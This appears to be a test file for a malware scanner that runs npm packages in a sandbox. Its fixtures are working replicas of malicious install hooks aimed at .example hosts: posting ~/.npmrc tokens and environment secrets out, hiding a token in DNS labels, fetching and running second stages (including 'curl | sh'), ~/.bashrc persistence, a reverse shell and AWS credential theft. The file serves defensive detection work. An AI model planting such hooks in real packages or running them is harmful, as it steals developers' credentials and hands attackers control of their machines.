import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { scanPackageDirDynamic } from "../../src/scan/dynamic/index.js";
import type { Finding, PackageReport } from "../../src/scan/types.js";
import { canSandbox } from "../net/support.js";
import { makePackage } from "./helpers.js";

/**
 * Inert replicas, written here: each does what a real campaign did, but
 * every host is under the reserved .example top-level domain (RFC 2606), so
 * even run outside a sandbox nothing could reach anyone; inside, the only
 * network is the sinkhole and the only secrets are planted ones.
 */
const sandboxSkip = canSandbox() ? false : "SKIPPED: bubblewrap cannot create user and network namespaces here";

async function observe(files: Record<string, string>): Promise<PackageReport> {
  const pkg = await makePackage(files);
  try {
    return await scanPackageDirDynamic(pkg.dir, { cache: false, observe: { timeoutMs: 20_000, lingerMs: 2_000, loadMs: 3_000 } });
  } finally {
    await pkg.cleanup();
  }
}

function manifest(scripts: Record<string, string>, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ name: "replica", version: "1.0.0", main: "index.js", scripts, ...extra });
}

const ofRule = (report: PackageReport, rule: string): Finding[] => report.findings.filter((f) => f.rule === rule);

describe("cordon scan --dynamic: what a package does in the observation sandbox", { skip: sandboxSkip, concurrency: 1 }, () => {
  it("a postinstall that posts ~/.npmrc base64-encoded over HTTPS is malicious, naming the token and the host", async () => {
    const report = await observe({
      "package.json": manifest({ postinstall: "node setup.js" }),
      "setup.js": `
        const fs = require("fs"), os = require("os"), https = require("https");
        const data = Buffer.from(fs.readFileSync(os.homedir() + "/.npmrc")).toString("base64");
        const req = https.request({ host: "collect.drop.example", path: "/c", method: "POST" }, (res) => res.resume());
        req.on("error", () => {});
        req.end(data);`,
      "index.js": "module.exports = 1;\n",
    });
    assert.equal(report.verdict, "malicious");
    const [theft] = ofRule(report, "behaviour/credential-theft");
    assert.ok(theft, JSON.stringify(report.findings, null, 1));
    assert.equal(theft.severity, "critical");
    assert.match(theft.message, /npm token in ~\/\.npmrc.*collect\.drop\.example.*postinstall/);
    assert.match(theft.evidence, /npmrc-token in body \(base64\) → POST https:\/\/collect\.drop\.example\/c/);
  });

  it("the whole environment hex-encoded into a fetch() URL is found token by token", async () => {
    const report = await observe({
      "package.json": manifest({ preinstall: "node env.js" }),
      "env.js": `fetch("http://t.c2.example/p?d=" + Buffer.from(JSON.stringify(process.env)).toString("hex")).then((r) => r.text(), () => {});`,
      "index.js": "",
    });
    const [theft] = ofRule(report, "behaviour/credential-theft");
    assert.ok(theft, JSON.stringify(report.findings, null, 1));
    assert.match(theft.message, /planted secrets .*the environment/);
    assert.match(theft.evidence, /^env-NPM_TOKEN, .*env-AWS_SECRET_ACCESS_KEY.* in URL \(hex\) → GET http:\/\/t\.c2\.example\/p\?d=/);
  });

  it("a token smuggled in a host name (hex split over DNS labels) is found", async () => {
    const report = await observe({
      "package.json": manifest({ postinstall: "node probe.js" }),
      "probe.js": `
        const hex = Buffer.from(process.env.GITHUB_TOKEN).toString("hex");
        require("https").get("https://" + hex.slice(0, 40) + "." + hex.slice(40) + ".q.oast.example/", (r) => r.resume()).on("error", () => {});`,
      "index.js": "",
    });
    const [theft] = ofRule(report, "behaviour/credential-theft");
    assert.ok(theft, JSON.stringify(report.findings, null, 1));
    assert.match(theft.evidence, /env-GITHUB_TOKEN in host name \(hex\)/);
  });

  it("a loader that fetches a second stage and runs it with new Function is caught by the stage's mark", async () => {
    const report = await observe({
      "package.json": manifest({ postinstall: "node loader.js" }),
      "loader.js": `
        require("http").get("http://cdn.stage.example/s.js", (res) => {
          let body = "";
          res.on("data", (d) => (body += d));
          res.on("end", () => new Function(body)());
        }).on("error", () => {});`,
      "index.js": "",
    });
    const [stage] = ofRule(report, "behaviour/second-stage");
    assert.ok(stage, JSON.stringify(report.findings, null, 1));
    assert.equal(stage.severity, "critical");
    assert.match(stage.evidence, /GET cdn\.stage\.example\/s\.js/);
    assert.equal(report.verdict, "malicious");
  });

  it("curl … | sh in an install script runs the sinkhole's shell stage", async () => {
    const report = await observe({
      "package.json": manifest({ install: "curl -fsS https://get.stage.example/install | sh" }),
      "index.js": "",
    });
    const [stage] = ofRule(report, "behaviour/second-stage");
    assert.ok(stage, JSON.stringify(report.findings, null, 1));
    assert.match(stage.message, /shell script/);
    assert.match(stage.evidence, /get\.stage\.example\/install/);
  });

  it("a benign installer that downloads its binary archive is not malicious: a download alone is not theft", async () => {
    const pkg = await makePackage({
      "package.json": manifest({ postinstall: "node install.js" }),
      "install.js": `
        const fs = require("fs"), https = require("https");
        fs.mkdirSync(__dirname + "/bin", { recursive: true });
        https.get("https://github.com/acme/tool/releases/download/v1.2.3/tool-linux-x64.tar.gz", { headers: { "user-agent": "tool-installer" } }, (res) => {
          res.pipe(fs.createWriteStream(__dirname + "/bin/tool.tgz")).on("finish", () => console.log("downloaded", res.statusCode));
        }).on("error", (e) => { console.error(e.message); process.exitCode = 1; });`,
      "index.js": "module.exports = { path: __dirname + '/bin/tool' };\n",
    });
    try {
      const report = await scanPackageDirDynamic(pkg.dir, { cache: false, observe: { timeoutMs: 20_000 } });
      assert.equal(report.verdict, "ok", JSON.stringify(report.findings, null, 1));
      assert.deepEqual(report.findings.filter((f) => f.rule.startsWith("behaviour/") && !["info", "low"].includes(f.severity)), []);
      assert.ok(report.behaviour?.requests.some((r) => r.host === "github.com" && r.kind === "https"));
      assert.equal(report.behaviour?.steps[0]?.exitCode, 0);
      // It ran in a copy: the folder it was given is untouched.
      assert.equal(existsSync(join(pkg.dir, "bin")), false);
    } finally {
      await pkg.cleanup();
    }
  });

  it("a line added to ~/.bashrc and a detached process left running are reported", async () => {
    const report = await observe({
      "package.json": manifest({ postinstall: "node persist.js" }),
      "persist.js": `
        const fs = require("fs"), os = require("os"), cp = require("child_process");
        fs.appendFileSync(os.homedir() + "/.bashrc", "\\nalias sudo='sudo -E'\\n");
        cp.spawn("sleep", ["25"], { detached: true, stdio: "ignore" }).unref();`,
      "index.js": "",
    });
    assert.ok(ofRule(report, "behaviour/persistence").some((f) => f.evidence === "~/.bashrc"), JSON.stringify(report.findings, null, 1));
    const [background] = ofRule(report, "behaviour/background-process");
    assert.ok(background);
    assert.match(background.evidence, /sleep 25/);
  });

  it("a shell handed to a connection through the proxy answers the sinkhole's probe: a reverse shell", async () => {
    const report = await observe({
      "package.json": manifest({ postinstall: "node shell.js" }),
      "shell.js": `
        const http = require("http"), cp = require("child_process");
        const proxy = new URL(process.env.HTTPS_PROXY);
        http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "c2.example:4444" }).on("connect", (res, socket) => {
          const sh = cp.spawn("/bin/sh", [], { stdio: ["pipe", "pipe", "pipe"] });
          socket.pipe(sh.stdin);
          sh.stdout.pipe(socket);
          setTimeout(() => { socket.destroy(); sh.kill(); }, 3000);
        }).on("error", () => {}).end();`,
      "index.js": "",
    });
    const [shell] = ofRule(report, "behaviour/reverse-shell");
    assert.ok(shell, JSON.stringify(report.findings, null, 1));
    assert.equal(shell.severity, "critical");
    assert.match(shell.message, /c2\.example:4444/);
  });

  it("a raw socket that ignores the proxy is counted as a direct attempt", async () => {
    const report = await observe({
      "package.json": manifest({ postinstall: "node direct.js" }),
      "direct.js": `require("net").connect(4444, "203.0.113.9").on("error", () => {});`,
      "index.js": "",
    });
    const [direct] = ofRule(report, "behaviour/direct-network");
    assert.ok(direct, JSON.stringify(report.findings, null, 1));
    assert.ok((report.behaviour?.directAttempts ?? 0) >= 1);
  });

  it("a package inside a node_modules tree finds its dependencies there (read-only), so a stealer built on a dependency is not missed", async () => {
    const tree = await makePackage({
      "node_modules/tiny-post/package.json": JSON.stringify({ name: "tiny-post", version: "1.0.0", main: "index.js" }),
      "node_modules/tiny-post/index.js": `module.exports = (host, body) => { const r = require("https").request({ host, method: "POST", path: "/" }, (s) => s.resume()); r.on("error", () => {}); r.end(body); };`,
      "node_modules/replica/package.json": manifest({ postinstall: "node hook.js" }),
      "node_modules/replica/hook.js": `require("tiny-post")("hook.relay.example", require("fs").readFileSync(require("os").homedir() + "/.aws/credentials"));`,
      "node_modules/replica/index.js": "",
    });
    try {
      const report = await scanPackageDirDynamic(join(tree.dir, "node_modules", "replica"), { cache: false, observe: { timeoutMs: 20_000 } });
      const [theft] = ofRule(report, "behaviour/credential-theft");
      assert.ok(theft, JSON.stringify(report.findings, null, 1));
      assert.match(theft.evidence, /aws-credentials-key, aws-credentials-secret in body → POST https:\/\/hook\.relay\.example\//);
      assert.equal(existsSync(join(tree.dir, "node_modules", "tiny-post", "node_modules")), false);
    } finally {
      await tree.cleanup();
    }
  });

  it("a payload that fires only when the entry point is loaded is reported at the entry point", async () => {
    const report = await observe({
      "package.json": manifest({}),
      "index.js": `
        const https = require("https");
        const req = https.request({ host: "telemetry.lib.example", path: "/v1", method: "POST", headers: { "x-id": process.env.AWS_ACCESS_KEY_ID } }, (r) => r.resume());
        req.on("error", () => {});
        req.end();
        module.exports = {};`,
    });
    const [theft] = ofRule(report, "behaviour/credential-theft");
    assert.ok(theft, JSON.stringify(report.findings, null, 1));
    assert.equal(theft.file, "index.js");
    assert.match(theft.message, /entry point was loaded/);
    assert.match(theft.evidence, /env-AWS_ACCESS_KEY_ID in header x-id/);
  });
});
